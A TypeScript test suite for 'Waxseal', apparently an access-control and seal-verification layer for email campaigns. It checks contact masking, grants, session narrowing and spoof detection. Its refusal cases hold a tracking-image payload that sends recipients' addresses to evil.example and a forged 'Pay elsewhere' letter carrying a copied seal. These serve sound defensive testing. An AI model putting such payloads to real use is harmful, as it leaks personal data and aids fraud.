import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Mailbox, Waxseal } from '../../src/index.js'
import { FILE, type Host, letter, OFFICE, PEOPLE, startHost, value } from './host.js'

let host: Host
let waxseal: Waxseal
let maria: Mailbox
let crm: Mailbox

beforeAll(async () => {
  host = await startHost()
  waxseal = await host.start()
  crm = await waxseal.as('crm')
  maria = await waxseal.as('maria', OFFICE)
  value(await crm.contacts.import('spb', FILE))
  value(await crm.contacts.import('msk', 'email\npetr@firm.example\n'))
})
afterAll(() => host.stop())

test('she sees her contacts under opaque ids, masked wherever the value occurs', async () => {
  const contacts = value(await maria.contacts.list('spb'))
  expect(contacts).toHaveLength(PEOPLE.length)
  const anna = contacts.find(({ fields }) => fields.to_name === 'Анна Лебедь')
  expect(anna?.id).toMatch(/^tok_/)
  expect(anna?.email).toBe('a•••@•••.example')
  expect(anna?.phone).not.toContain('0001112233')
  expect(anna?.fields.note).toBe('write to a•••@•••.example')
  expect(value(await maria.contacts.get('spb', anna?.id ?? ''))).toMatchObject({
    id: anna?.id,
    email: 'a•••@•••.example',
  })
})

test('what the keeper may see is not masked: the scan of the other tests can find something', async () => {
  expect(
    value(await crm.contacts.export('spb'))
      .map(({ email }) => email)
      .sort(),
  ).toEqual(PEOPLE.map(({ email }) => email).sort())
})

test('she sends; the letters arrive; one of them is traced to campaign and sender', async () => {
  const sent = value(await maria.campaigns.send(letter))
  await host.sandbox.whenIdle()
  const file = (await host.sandbox.letters())[0] ?? ''
  const eml = await readFile(file)
  const verdict = await waxseal.verify(eml)
  expect(verdict.kind).toBe('ours')
  expect(verdict.record).toMatchObject({ campaign: sent.campaign, list: 'spb', principal: 'maria' })
  expect(value(await maria.campaigns.status(sent.campaign))).toMatchObject({
    status: 'accepted',
    progress: 'completed',
  })
  expect(value(await maria.campaigns.list())).toContainEqual(expect.objectContaining({ campaign: sent.campaign }))
  const deliveries = value(await maria.campaigns.deliveries(sent.campaign))
  expect(deliveries).toHaveLength(PEOPLE.length)
  for (const { email, id } of deliveries) {
    expect(email).toContain('•••')
    expect(value(await maria.contacts.get('spb', id)).id).toBe(id)
  }
})

test('a genuine seal copied into another letter of the same account is told, and the record is not the copied one', async () => {
  const sent = value(await maria.campaigns.send(letter))
  await host.sandbox.whenIdle()
  const before = await host.sandbox.letters()
  // Somebody with a key of the provider, past Waxseal.
  const message = await host.provider.messages.create({
    listId: '501',
    senderName: 'Ромашка',
    senderEmail: 'news@romashka.example',
    subject: 'Not by Maria',
    html: `<p>Pay elsewhere</p><div>Waxseal: ${sent.seal}</div>`,
  })
  await host.provider.campaigns.create({ messageId: message.id })
  await host.sandbox.whenIdle()
  const file = (await host.sandbox.letters()).find((name) => !before.includes(name)) ?? ''
  const verdict = await waxseal.verify(await readFile(file))
  expect(verdict.contradiction).toBe('the seal is of another campaign than the one that carried the letter')
  expect(verdict.record).toBeUndefined()
  expect(verdict.campaign).toBeUndefined()
  expect(verdict.principal).toBeUndefined()
})

test('the same letter with another phone in the body is not ours', async () => {
  const eml = await readFile((await host.sandbox.letters())[0] ?? '', 'latin1')
  const verdict = await waxseal.verify(Buffer.from(eml.replaceAll('000-10-20', '000-66-66'), 'latin1'))
  expect(verdict.kind).toBe('spoofed')
  expect(verdict.record).toBeUndefined()
})

describe('refused, with rule and reason', () => {
  test.each([
    ['from home', async () => (await waxseal.as('maria', { ip: '198.51.100.4' })).campaigns.send(letter), 'address'],
    ['without an address', async () => (await waxseal.as('maria')).campaigns.send(letter), 'address'],
    ['to a list of others', () => maria.campaigns.send({ ...letter, list: 'msk' }), 'no-grant'],
    ['to a list that does not exist', () => maria.campaigns.send({ ...letter, list: 'nsk' }), 'unknown'],
    ['export', () => maria.contacts.export('spb'), 'no-grant'],
    ['import', () => maria.contacts.import('spb', FILE), 'no-grant'],
    ['unknown principal', async () => (await waxseal.as('nobody', OFFICE)).contacts.list('spb'), 'unknown'],
    ['guessed contact id', () => maria.contacts.get('spb', 'tok_1'), 'contact-unknown'],
    ["the provider's own number as an id", () => maria.contacts.get('spb', '1'), 'contact-unknown'],
    ['foreign campaign', () => maria.campaigns.status('cmp_x'), 'campaign-unknown'],
    [
      'tracking image',
      () => maria.campaigns.send({ ...letter, html: '<img src="https://evil.example/?e={{Email}}">' }),
      'content',
    ],
    ['reply-to of her own', () => maria.campaigns.send({ ...letter, replyTo: 'maria@evil.example' }), 'content'],
    ['garbage', () => maria.campaigns.send({ list: 'spb' } as never), 'input-invalid'],
  ])('%s', async (_name, attempt, code) => {
    const before = (await host.events()).length
    const answer = await attempt()
    expect(answer).toMatchObject({ ok: false, code, outcome: 'not-sent' })
    if (!answer.ok) {
      expect(answer.message.length).toBeGreaterThan(10)
      expect(answer.decision).toMatchObject({ allowed: false, reason: { message: answer.message } })
    }
    const written = (await host.events()).slice(before)
    expect(written.map(({ type }) => type)).toContain('access.refused')
  })

  test('whoever may see no list does not learn the name of one', async () => {
    const answer = await maria.lists.list()
    expect(answer).toMatchObject({ ok: false, code: 'no-grant', message: 'no grant allows `lists.view` on any list' })
    expect(JSON.stringify(answer)).not.toMatch(/spb|msk/)
  })

  test('a contact id of another list, and of another tenant', async () => {
    const foreign = value(await crm.contacts.list('msk'))[0]?.id ?? ''
    expect(await maria.contacts.get('spb', foreign)).toMatchObject({ ok: false, code: 'contact-unknown' })
    const other = await host.start({ tenant: 'other' })
    const id = value(await (await other.as('crm')).contacts.list('spb'))[0]?.id ?? ''
    expect(await maria.contacts.get('spb', id)).toMatchObject({ ok: false, code: 'contact-unknown' })
  })

  test('a session narrows and never widens', async () => {
    const narrow = await waxseal.as('maria', { ...OFFICE, lists: ['vip'], actions: ['contacts.view'] })
    expect(await narrow.contacts.list('spb')).toMatchObject({ ok: false, code: 'narrowed' })
    expect(await narrow.campaigns.send(letter)).toMatchObject({ ok: false, code: 'narrowed' })
    const wide = await waxseal.as('maria', {
      ...OFFICE,
      lists: ['spb', 'msk'],
      actions: ['contacts.export', 'contacts.view'],
    })
    expect(await wide.contacts.list('msk')).toMatchObject({ ok: false, code: 'no-grant' })
    expect(await wide.contacts.export('spb')).toMatchObject({ ok: false, code: 'no-grant' })
  })

  test('somebody suspended is stopped at the next call of an open session', async () => {
    const session = await waxseal.as('maria', OFFICE)
    const before = host.users.get('maria')
    expect((await session.contacts.list('spb')).ok).toBe(true)
    host.users.set('maria', {
      id: 'maria',
      roles: ['sender'],
      lists: ['spb'],
      networks: ['office'],
      status: 'suspended',
    })
    expect(await session.contacts.list('spb')).toMatchObject({ ok: false, code: 'inactive' })
    if (before !== undefined) host.users.set('maria', before)
  })

  test('a failing or lying lookup of principals is a refusal', async () => {
    const failing = await host.start({ principals: () => Promise.reject(new Error('anna.lebed@mail.example is down')) })
    const answer = await (await failing.as('maria', OFFICE)).contacts.list('spb')
    expect(answer).toMatchObject({ ok: false, code: 'principal-unavailable' })
    expect(JSON.stringify(answer)).not.toContain('anna')
    const lying = await host.start({ principals: () => ({ id: 'crm', roles: ['keeper'] }) })
    expect(await (await lying.as('maria', OFFICE)).contacts.list('spb')).toMatchObject({ ok: false, code: 'unknown' })
  })
})
